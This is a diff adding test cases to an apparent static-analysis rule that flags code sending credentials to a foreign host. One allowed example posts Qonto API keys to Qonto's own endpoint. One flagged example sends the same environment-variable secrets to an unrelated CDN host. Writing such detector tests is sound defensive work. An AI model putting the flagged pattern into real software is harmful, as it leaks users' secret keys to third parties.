@@ -82,6 +82,18 @@ class CredentialToForeignHost(Rule):
                 def download(self, attachment_id):
                     return requests.get(self.attachment(attachment_id)["url"]).content
             """),
+        Example(
+            """
+            export async function upload(body: Blob) {
+              return fetch("https://thirdparty.qonto.com/v2/attachments", {
+                method: "POST",
+                headers: { Authorization: `${process.env.QONTO_LOGIN}:${process.env.QONTO_SECRET_KEY}` },
+                body,
+              });
+            }
+            """,
+            path="upload.ts",
+        ),
     ]
     INVALID = [
         Example(
@@ -113,6 +125,20 @@ class CredentialToForeignHost(Rule):
             """,
             7,
             35,
+        ),
+        Example(
+            """
+            async function upload(url, body) {
+              return fetch("https://files.example-cdn.net/upload", {
+                method: "PUT",
+                headers: { Authorization: `${process.env.QONTO_LOGIN}:${process.env.QONTO_SECRET_KEY}` },
+                body,
+              });
+            }
+            """,
+            4,
+            31,
+            path="upload.js",
         ),
     ]
 
